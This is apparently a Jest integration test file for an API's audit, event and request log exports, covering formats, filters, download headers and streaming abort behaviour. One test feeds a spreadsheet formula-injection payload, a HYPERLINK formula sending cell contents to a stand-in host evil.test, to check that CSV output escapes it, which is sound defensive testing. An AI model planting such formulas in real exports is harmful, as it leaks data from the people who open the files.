import { createWorkspace, startApi, testEnvironment, until } from '@app/testing';
import { LogExports } from '../../../libs/audit/src/export/log-exports';
import { type ApiUnderTest, startApiUnderTest } from '../../support/api-under-test';
import { startDownload, urlOf } from '../../support/download';
import { childrenOf } from '../../support/of-process';
import { makeWorkspace, type TestWorkspace } from '../../support/people';

const onLinux = process.platform === 'linux' ? it : it.skip;

type Item = Record<string, unknown>;

describe('the export of a log', () => {
  let api: ApiUnderTest;
  let acme: TestWorkspace;
  beforeAll(async () => {
    api = await startApiUnderTest();
    acme = await makeWorkspace(api, 'acme');
    await makeWorkspace(api, 'other');
    for (const name of ['a', 'b', 'c']) await api.operator.post(`${acme.base}/policies`, { name }).expect(201);
  });
  afterAll(() => api.stop());

  const download = async (path: string) => (await api.operator.get(`${acme.base}/${path}`).expect(200)).text;
  const items = async (path: string) =>
    (await download(path))
      .trimEnd()
      .split('\n')
      .filter((line) => line !== '')
      .map((line) => JSON.parse(line) as Item);
  const listed = async (path: string) =>
    (await api.operator.get(`${acme.base}/${path}`).expect(200)).body.items as Item[];

  it('has what the list has, the oldest first', async () => {
    const shown = (await listed('audit?limit=200')).reverse();
    expect(await items('audit/export?format=ndjson')).toEqual(shown);
    expect(shown.map(({ action }) => action)).toContain('policy.create');
  });

  it('has what is asked for, and of one workspace only', async () => {
    const [first, second, third] = await items('audit/export?action=policy.create');
    expect([first, second, third].map((item) => (item?.diff as { value: Item }[])[0]?.value.name)).toEqual([
      'a',
      'b',
      'c',
    ]);
    const since = encodeURIComponent(String(second?.createdAt));
    const until_ = encodeURIComponent(String(third?.createdAt));
    expect(await items(`audit/export?action=policy.create&since=${since}`)).toEqual([second, third]);
    expect(await items(`audit/export?action=policy.create&since=${since}&until=${until_}`)).toEqual([second]);
    expect(await items(`audit/export?resourceType=policy&resourceId=${String(first?.resourceId)}`)).toEqual([first]);
    expect(await items(`audit/export?actorType=user&actorId=${String(first?.actorId)}&action=policy.create`)).toEqual([
      first,
      second,
      third,
    ]);
    const own = await until('the requests on record', async () => {
      const requests = await items('requests/export');
      return requests.length > 3 && requests;
    });
    const ids = new Set((await listed('requests?limit=200')).map(({ id }) => id));
    for (const { id } of own) expect(ids).toContain(id);
  });

  it('is a download with a name of its own, and says what it is', async () => {
    const csv = await api.operator.get(`${acme.base}/requests/export?format=csv`).expect(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    expect(csv.headers['content-disposition']).toMatch(
      new RegExp(`^attachment; filename="signalbox-requests-${acme.id}-\\d{8}T\\d{6}Z\\.csv"$`),
    );
    const { headers } = await api.operator.get(`${acme.base}/events/export`).expect(200);
    expect(headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
    expect(headers['content-disposition']).toMatch(/\.ndjson"$/);
  });

  it.each(['events', 'requests', 'audit'])('of %s knows its formats and no other', async (log) => {
    const { body } = await api.operator.get(`${acme.base}/${log}/export?format=xlsx`).expect(400);
    expect(body).toMatchObject({ code: 'invalid_input', errors: [{ path: 'format' }] });
    await api.operator.get(`${acme.base}/${log}/export?limit=5`).expect(400);
  });

  it('as a table is safe to open in a spreadsheet', async () => {
    const evil = '=HYPERLINK("http://evil.test/?"&A1,"ok")';
    await api.operator.with({ 'x-audit-reason': evil }).post(`${acme.base}/policies`, { name: 'd, "e"' }).expect(201);
    const [header, ...lines] = (await download('audit/export?format=csv&action=policy.create')).split('\r\n');
    expect(header).toMatch(/^sequence,createdAt,id,actorType,/);
    expect(lines.pop()).toBe('');
    expect(lines).toHaveLength(4);
    expect(lines[3]).toContain(`,"'=HYPERLINK(""http://evil.test/?""&A1,""ok"")",`);
    expect(lines[3]).not.toMatch(/,"?=/);
    expect(lines[3]).toContain('d, \\""e\\""');
  });

  it('is on record itself: who took what', async () => {
    const before = await listed('audit?action=events.export');
    await download('events/export?format=csv&severity=info');
    const [row, ...rest] = await listed('audit?action=events.export');
    expect(rest).toEqual(before);
    expect(row).toMatchObject({ action: 'events.export', actorType: 'user', resourceType: 'events' });
    expect(row?.diff).toMatchObject([{ value: { format: 'csv', severity: 'info', until: expect.any(String) } }]);
    await api.operator.get('/v1/audit/export').expect(200);
    const own = await api.operator.get('/v1/audit?action=audit.export').expect(200);
    expect(own.body.items[0]).toMatchObject({ resourceId: 'installation' });
  });

  it('has every row once, also where a thousand of them share a millisecond', async () => {
    const { id } = await makeWorkspace(api, 'crowded');
    await api.database.query(
      `insert into event_log (id, tenant_id, severity, type, message, created_at)
       select gen_random_uuid(), $1, 'info', 'test.event', n::text,
         timestamptz '2026-11-01 00:00:00+00' + (n % 700) * interval '1 microsecond'
       from generate_series(1, 2500) n`,
      [id],
    );
    const { text } = await api.operator.get(`/v1/workspaces/${id}/events/export?type=test.event`).expect(200);
    const rows = text.trimEnd().split('\n');
    const messages = rows.map((line) => Number((JSON.parse(line) as Item).message));
    expect(messages.sort((a, b) => a - b)).toEqual(Array.from({ length: 2500 }, (_, index) => index + 1));
  });

  describe('that is long', () => {
    let url: string;
    let key: string;
    beforeAll(async () => {
      const id = await createWorkspace(api.operator, 'Long');
      await api.database.query(
        `insert into event_log (id, tenant_id, severity, type, message, created_at)
         select gen_random_uuid(), $1, 'info', 'test.event', repeat('x', 500), now() - n * interval '1 millisecond'
         from generate_series(1, 60000) n`,
        [id],
      );
      const body = { name: 'Export', permissions: ['events:read'] };
      key = (await api.operator.post(`/v1/workspaces/${id}/api-keys`, body).expect(201)).body.key;
      url = `/v1/workspaces/${id}/events/export?type=test.event`;
    });
    const exportsOf = (app: ApiUnderTest['app']) => app.get(LogExports, { strict: false });

    it('holds no transaction while its reader takes a break', async () => {
      const slow = await startDownload(urlOf(api.app) + url, key);
      await until('the export to wait for its reader', async () => {
        const busy = await api.database.query(
          `select from pg_stat_activity where datname = current_database() and pid <> pg_backend_pid()
             and state <> 'idle'`,
        );
        return busy.length === 0;
      });
      expect(exportsOf(api.app).running).toBe(1);
      expect(await slow.countLines()).toBe(60_000);
      await until('the end', () => exportsOf(api.app).running === 0);
    });

    it('is read no further when its reader goes away', async () => {
      const left = await startDownload(urlOf(api.app) + url, key);
      expect(exportsOf(api.app).running).toBe(1);
      left.leave();
      await until('the reading to stop', () => exportsOf(api.app).running === 0);
    });

    it('is broken off, not ended, when the database fails in the middle of it', async () => {
      const slow = await startDownload(urlOf(api.app) + url, key);
      await api.database.query('alter table event_log rename to event_log_away');
      await expect(slow.countLines()).rejects.toThrow('aborted');
      await api.database.query('alter table event_log_away rename to event_log');
      expect(exportsOf(api.app).running).toBe(0);
    });

    onLinux('is broken off, not ended, when the process that does it is killed', async () => {
      const slow = await startDownload(urlOf(api.app) + url, key);
      const [exporting] = await until('the process', () => {
        const started = childrenOf(process.pid);
        return started.length > 0 && started;
      });
      process.kill(exporting as number, 'SIGKILL');
      await expect(slow.countLines()).rejects.toThrow('aborted');
      await until('the end', () => exportsOf(api.app).running === 0);
    });

    it('is not read for who only asks for its headers', async () => {
      const answer = await fetch(urlOf(api.app) + url, { method: 'HEAD', headers: { authorization: `Bearer ${key}` } });
      expect(answer.status).toBe(200);
      expect(answer.headers.get('content-type')).toContain('x-ndjson');
      expect(exportsOf(api.app).running).toBe(0);
    });

    it('does not hold up the end of the process, and is visibly incomplete', async () => {
      const ending = await startApi(testEnvironment(api.database));
      const slow = await startDownload(urlOf(ending) + url, key);
      await ending.close();
      await expect(slow.countLines()).rejects.toThrow('aborted');
    });
  });
});
